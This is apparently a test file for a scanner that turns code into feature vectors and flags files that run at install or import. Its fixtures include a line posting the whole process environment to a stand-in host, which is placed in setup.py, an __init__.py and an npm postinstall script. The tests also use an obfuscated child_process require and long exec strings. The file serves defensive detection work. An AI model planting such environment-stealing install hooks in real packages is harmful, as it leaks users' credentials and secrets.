"""Files and functions become vectors; when they run counts too."""

import json

from scanner.analyzers.model.reading import Budget, read, read_file
from scanner.analyzers.model.vectors import Role
from scanner.analyzers.sources import Source

SENDS = """import os, requests


def go():
    requests.post('https://x.invalid', data=dict(os.environ))
"""


def test_a_function_is_a_part_of_its_own(tmp_path):
    (tmp_path / "app.py").write_text(f"{SENDS}\n\ndef add(a, b):\n    return a + b\n")

    (file,) = read(tmp_path)

    assert file.whole.path == "app.py"
    assert file.whole.lines["env_all"] == 5
    (go,) = file.functions
    assert (go.name, go.first_line, go.last_line) == ("go", 4, 5)
    assert go.vector["p_env_all+net_out"] == file.whole.vector["fn_env_all+net_out"] == 1


def test_what_runs_at_install_or_import_says_so(tmp_path):
    (tmp_path / "setup.py").write_text(SENDS)
    (tmp_path / "a").mkdir()
    (tmp_path / "a/__init__.py").write_text(SENDS)

    by_path = {file.whole.path: file.whole.vector for file in read(tmp_path)}

    assert by_path["setup.py"]["s_net_out"] == 1
    assert by_path["a/__init__.py"]["i_net_out"] == 1
    assert "s_net_out" not in by_path["a/__init__.py"]


def test_a_script_that_npm_runs_at_install_is_known(tmp_path):
    scripts = {"postinstall": "node tools/go.js"}
    (tmp_path / "package.json").write_text(json.dumps({"scripts": scripts}))
    (tmp_path / "tools").mkdir()
    (tmp_path / "tools/go.js").write_text("fetch('https://x.invalid/', {method: 'POST'})\n")

    by_path = {file.whole.path: file.whole.vector for file in read(tmp_path)}

    assert by_path["tools/go.js"]["s_net_out"] == by_path["tools/go.js"]["hook_post"] == 1


def test_tests_examples_and_dependencies_are_left_out(tmp_path):
    for folder in ("tests", "examples", "node_modules/a"):
        (tmp_path / folder).mkdir(parents=True)
        (tmp_path / folder / "a.py").write_text(SENDS)

    assert list(read(tmp_path)) == []


def test_a_package_json_that_npm_refuses_ends_nothing(tmp_path):
    (tmp_path / "package.json").write_text("[")
    (tmp_path / "a.py").write_text(SENDS)

    assert [file.whole.path for file in read(tmp_path)] == ["a.py"]


def test_what_is_unwound_has_a_bound_and_scripts_cost_more():
    hidden = 'const c = require("child_" + "process");\n'
    budget = Budget(left=1)

    assert "proc" in read_file(Source("a.js", hidden), Role(), budget).whole.vector
    assert budget.left < -10 * len(hidden)
    assert read_file(Source("b.js", hidden), Role(), budget) is None


def test_long_texts_of_both_languages_are_measured():
    text = "".join(f"{number:x}" for number in range(200))
    script = read_file(Source("a.js", f"exec(`{text}`, 'it', 1);\n"), Role(), Budget())
    python = read_file(Source("a.py", f"exec('{text}', 'it', 1)\n"), Role(), Budget())

    for name in ("log_maxstr", "longstr", "maxstrent"):
        assert script.whole.vector[name] == python.whole.vector[name] > 0
